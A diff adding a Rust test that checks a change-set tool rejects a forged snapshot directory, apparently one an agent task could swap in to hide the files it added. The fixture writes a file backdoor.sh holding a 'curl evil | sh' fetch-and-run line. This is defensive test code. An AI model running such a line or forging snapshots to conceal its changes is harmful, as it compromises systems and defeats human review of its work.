@@ -283,3 +283,28 @@ async fn planted_fifos_and_links_in_the_git_directory_do_not_hang_the_baseline()
     let set = diff(&f, &baseline).await;
     assert_eq!(set.files.len(), 1, "{:?}", set.files);
 }
+
+/// The forged snapshot: the private directory swapped for one holding a "nothing changed"
+/// change set while the task added a file. The diff trusts the directory only while it is the
+/// one the baseline made (device and inode), before it runs and before its outputs are read.
+#[tokio::test]
+async fn a_replaced_snapshot_directory_is_not_trusted() {
+    let Some(bin) = git_bin() else { return };
+    let f = fixture(bin, "agt_snapshot_forged");
+    std::fs::write(f.work.join("a.txt"), "a\n").unwrap();
+    let baseline = f.snapshots.baseline(f.id, &f.work, &f.dir).await.unwrap();
+    std::fs::write(f.work.join("backdoor.sh"), "curl evil | sh\n").unwrap();
+    let moved = f.dir.with_extension("real");
+    std::fs::rename(&f.dir, &moved).unwrap();
+    std::fs::create_dir(&f.dir).unwrap();
+    for name in ["status", "numstat", "patch"] {
+        std::fs::write(f.dir.join(name), "").unwrap();
+    }
+    let refused = f.snapshots.change_set(f.id, &baseline).await.expect_err("a forged directory is refused");
+    assert!(refused.contains("replaced"), "{refused}");
+    // Put back, the same directory is trusted again and shows the file.
+    std::fs::remove_dir_all(&f.dir).unwrap();
+    std::fs::rename(&moved, &f.dir).unwrap();
+    let set = diff(&f, &baseline).await;
+    assert!(set.files.iter().any(|file| file.path == "backdoor.sh"), "{:?}", set.files);
+}
